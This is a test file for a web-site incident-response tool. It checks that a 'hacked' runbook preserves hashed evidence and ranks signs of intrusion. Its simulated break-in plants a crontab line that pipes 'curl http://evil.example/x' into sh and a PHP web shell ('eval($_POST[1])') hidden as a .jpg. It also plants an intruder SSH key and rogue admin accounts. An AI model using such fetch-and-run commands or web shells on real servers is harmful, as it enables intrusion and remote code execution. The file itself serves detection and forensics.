import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { chmodSync, chownSync, existsSync, mkdirSync, readdirSync, readFileSync, statSync, utimesSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { evidenceFolderOf, evidenceOf } from '../../../../src/main/restore/runbooks/keep-evidence-step.ts';
import { lookForSigns } from '../../../../src/main/restore/runbooks/look-for-signs.ts';
import { runbookSteps } from '../../../../src/main/restore/runbooks/runbook-steps.ts';
import { systemClock } from '../../../../src/main/support/clock.ts';
import { isRoot } from '../../../lab/accounts.ts';
import { memorySecrets, never, problemOf, SHELLS } from '../../servers/lab-servers.ts';
import { siteJournal, startRunbookLab, type RunbookLab } from './runbook-lab.ts';

const HOUR = 3_600_000;
const ago = (hours: number) => new Date(Date.now() - hours * HOUR);
const CRONTAB = '#!/bin/sh\necho "* * * * * curl -s http://evil.example/x | sh # APP_SECRET=hush-hush-hush"\n';

/** A site that has stood for a year, and an intruder of yesterday. */
function breakIn(lab: RunbookLab): void {
  const { root } = lab.target.site;
  execFileSync('find', [root, '-exec', 'touch', '-h', '-d', '2025-01-01', '{}', '+']);
  const plant = (path: string, content: string, at: Date, mode = 0o644) => utimesSync(lab.put(path, content, mode), at, at);
  plant('storage/app/public/products/shell.php.jpg', '<?php eval($_POST[1]);', ago(30));
  plant('storage/app/public/products/photo-new.jpg', 'a picture of yesterday', ago(20));
  // Dated back, as intruders do; the inode tells.
  plant('app/Http/Controllers/Old Controller.php', '<?php // backdoor', new Date('2021-05-05T00:00:00Z'));
  utimesSync(join(root, '.env'), ago(29), ago(29));
  plant('public/index.php', `${lab.read('public/index.php')}\n<?php /* injected */`, ago(26));
}

const filesIn = (archive: string) =>
  execFileSync('sh', ['-c', 'case "$1" in *.zst) zstd -dc "$1" ;; *) gzip -dc "$1" ;; esac | tar -tf -', 'sh', archive], {
    encoding: 'utf8',
  })
    .split('\n')
    .filter(Boolean);

const hacked = (lab: RunbookLab) =>
  lab.workFor({
    runbook: 'hacked',
    situation: { noticedAt: new Date().toISOString(), firstSignAt: ago(30).toISOString(), marginHours: 6 },
  });

describe.each(SHELLS)('evidence of a break-in, from a server with %s', (shell, options) => {
  it('is brought to a private folder with its hashes: what changed, what can be run, who is there', async () => {
    await using lab = await startRunbookLab({
      sshd: { ...options, programs: { ...options.programs, crontab: CRONTAB } },
      site: { rows: false },
    });
    breakIn(lab);
    mkdirSync(join(lab.lab.sshd.home, '.ssh'));
    writeFileSync(join(lab.lab.sshd.home, '.ssh/authorized_keys'), 'ssh-ed25519 AAAAnobodyknows intruder@example\n');
    chmodSync(join(lab.lab.sshd.home, '.ssh/authorized_keys'), 0o644);
    if (isRoot()) chownSync(join(lab.lab.sshd.home, '.ssh'), lab.lab.sshd.account.uid, lab.lab.sshd.account.gid);
    const work = hacked(lab);
    const journal = siteJournal(lab);
    const before = execFileSync('find', [lab.target.site.root, '-type', 'f', '-printf', '%p %T@ %C@\n'], { encoding: 'utf8' });

    const warning = await journal.run(runbookSteps(work).keepEvidence);
    const folder = evidenceFolderOf(work);
    const kept = evidenceOf(journal.memoOf('keep-evidence'));
    expect(kept?.folder).toBe(folder);
    expect(statSync(folder).mode & 0o777).toBe(0o700);
    for (const { name, sha256, bytes } of kept?.files ?? []) {
      const content = readFileSync(join(folder, name));
      expect([name, createHash('sha256').update(content).digest('hex'), content.length]).toEqual([name, sha256, bytes]);
      expect(statSync(join(folder, name)).mode & 0o777).toBe(0o600);
      expect(journal.text()).toContain(sha256);
    }
    const archive = readdirSync(folder).find((name) => name.startsWith('files.tar')) ?? '';
    const names = filesIn(join(folder, archive)).join('\n');
    for (const name of ['shell.php.jpg', 'photo-new.jpg', 'public/index.php']) expect(names).toContain(name);
    // By its own name, not also by that of the link public/storage.
    expect(names.match(/shell\.php\.jpg/g)).toHaveLength(1);
    const state = readFileSync(join(folder, 'server-state.txt'), 'utf8');
    for (const word of ['nobodyknows', '== id', 'sshd']) expect(state).toContain(word);
    // The shell of busybox prefers a crontab of its own.
    expect(state.includes('evil.example')).toBe(shell !== 'busybox');
    expect(state).not.toContain('hush-hush');
    const list = readFileSync(join(folder, 'files.txt'), 'utf8');
    expect(list).toMatch(/^kept\tcan be run\t.*shell\.php\.jpg$/m);
    // Settings are named and stay where they are.
    expect(names).not.toContain('.env');
    expect(list).toMatch(/^left out: it holds secrets\t.*\t\.env$/m);
    expect(warning).toContain('.env');
    // Nothing on the server is another than before.
    expect(execFileSync('find', [lab.target.site.root, '-type', 'f', '-printf', '%p %T@ %C@\n'], { encoding: 'utf8' })).toBe(before);

    // Run again it does nothing; with a file torn it is brought anew, and what was there is kept.
    const listAt = statSync(join(folder, 'files.txt')).mtimeMs;
    await siteJournal(lab, journal.memos).run(runbookSteps(work).keepEvidence);
    expect(statSync(join(folder, 'files.txt')).mtimeMs).toBe(listAt);
    writeFileSync(join(folder, archive), 'torn');
    await siteJournal(lab, journal.memos).run(runbookSteps(work).keepEvidence);
    expect(filesIn(join(folder, archive)).length).toBeGreaterThan(2);
    expect(readdirSync(work.evidenceFolder)).toHaveLength(2);
  });
});

describe('evidence of a break-in', () => {
  let lab: RunbookLab;
  beforeAll(async () => {
    lab = await startRunbookLab();
    breakIn(lab);
  });
  afterAll(() => lab[Symbol.asyncDispose]());

  it('that cannot be written stops the restore before anything is done', async () => {
    const file = join(lab.scratch, 'a file');
    writeFileSync(file, '');
    const work = { ...hacked(lab), evidenceFolder: join(file, 'below') };
    expect((await problemOf(siteJournal(lab).run(runbookSteps(work).keepEvidence))).code).toBe('restore.evidence-not-written');
  });

  it('that was cut off leaves nothing that looks whole, and is brought when it is asked for again', async () => {
    const work = hacked(lab);
    const cancelled = new AbortController();
    const journal = siteJournal(lab);
    const step = runbookSteps(work).keepEvidence;
    const running = journal.run(step, { signal: cancelled.signal });
    const folder = evidenceFolderOf(work);
    for (;;) {
      if (existsSync(join(folder, 'server-state.txt'))) break;
      await new Promise((resolve) => setImmediate(resolve));
    }
    cancelled.abort(new Error('cancelled'));
    await expect(running).rejects.toThrow('cancelled');
    expect(evidenceOf(journal.memoOf('keep-evidence'))).toBeNull();
    expect(readdirSync(folder).filter((name) => name.endsWith('.partial'))).toEqual([]);
    await siteJournal(lab, journal.memos).run(step);
    expect(readdirSync(folder).toSorted()).toEqual(['SHA256SUMS', 'files.tar.zst', 'files.txt', 'server-state.txt']);
    expect(execFileSync('sha256sum', ['-c', 'SHA256SUMS'], { cwd: folder, encoding: 'utf8' })).not.toContain('FAILED');
  });

  it('signs on the server tell when it began, the earliest first, and no picture and no deployment is one', async () => {
    await lab.lab.mariadb.sql(
      `CREATE TABLE users (id int PRIMARY KEY, email varchar(100), is_admin tinyint, created_at timestamp NULL);
       INSERT INTO users VALUES (1, 'owner@aurora.example', 1, '2024-01-01 00:00:00'), (2, 'visitor@aurora.example', 0, UTC_TIMESTAMP()),
         (3, 'root2@evil.example', 1, UTC_TIMESTAMP() - INTERVAL 28 HOUR);
       CREATE TABLE staff_members (id int, username varchar(20), role varchar(20), created_at datetime);
       INSERT INTO staff_members VALUES (1, 'editor', 'editor', UTC_TIMESTAMP()), (2, 'mallory', 'Super-Admin', UTC_TIMESTAMP() - INTERVAL 27 HOUR);
       CREATE TABLE \`odd\`\`users\` (id int, name varchar(20), role int, created_at datetime)`,
      { database: lab.lab.site.database },
    );
    mkdirSync(join(lab.lab.sshd.home, '.ssh'), { recursive: true });
    const keys = join(lab.lab.sshd.home, '.ssh/authorized_keys');
    writeFileSync(keys, 'ssh-ed25519 AAAA intruder\n');
    utimesSync(keys, ago(25), ago(25));
    const notes: string[] = [];
    const access = { target: lab.target, connections: lab.connections, secrets: memorySecrets(), clock: systemClock };
    const signs = await lookForSigns(access, never, (note) => void notes.push(note));
    expect(notes).toEqual([]);
    const told = signs.map(({ code, text }) => `${code}: ${text}`);
    expect(told.slice(0, 5)).toEqual([
      expect.stringMatching(/^new-executable: storage\/app\/public\/products\/shell\.php\.jpg /),
      expect.stringContaining('new-admin: The account root2@evil.example with rights was made in users.'),
      expect.stringContaining('new-admin: The account mallory'),
      expect.stringMatching(/^code-changed: .*public\/index\.php/),
      expect.stringMatching(/^keys-changed: .*authorized_keys/),
    ]);
    expect(signs.map(({ at }) => at)).toEqual(signs.map(({ at }) => at).toSorted());
    expect(Math.abs(Date.parse(signs[0]?.at ?? '') - ago(30).getTime())).toBeLessThan(HOUR);
    expect(Math.abs(Date.parse(signs[1]?.at ?? '') - ago(28).getTime())).toBeLessThan(HOUR);
    expect(told.join('\n')).not.toMatch(/photo-new|visitor|owner@|editor/);
  });

  it('signs are also had without the database, which is said', async () => {
    const notes: string[] = [];
    const sources = lab.target.sources.map((source) => (source.kind === 'database' ? { ...source, database: 'gone' } : source));
    const access = { target: { ...lab.target, sources }, connections: lab.connections, secrets: memorySecrets(), clock: systemClock };
    const signs = await lookForSigns(access, never, (note) => void notes.push(note));
    expect(signs.some(({ code }) => code === 'new-executable')).toBe(true);
    expect(notes).toEqual([expect.stringContaining('Accounts in gone could not be looked at')]);
  });

  it('signs are had within their time, also from a database that does not answer', async () => {
    const connection = await lab.lab.mariadb.connect({ database: lab.lab.site.database });
    try {
      await connection.query('CREATE TABLE IF NOT EXISTS admins (name varchar(20), created_at datetime)');
      await connection.query('LOCK TABLES admins WRITE');
      const notes: string[] = [];
      const access = { target: lab.target, connections: lab.connections, secrets: memorySecrets(), clock: systemClock, longestMs: 2_000 };
      const signs = await lookForSigns(access, never, (note) => void notes.push(note));
      expect(signs.some(({ code }) => code === 'new-executable')).toBe(true);
      expect(notes).toEqual([expect.stringContaining('could not be looked at: it took too long')]);
    } finally {
      await connection.end();
    }
  });
});
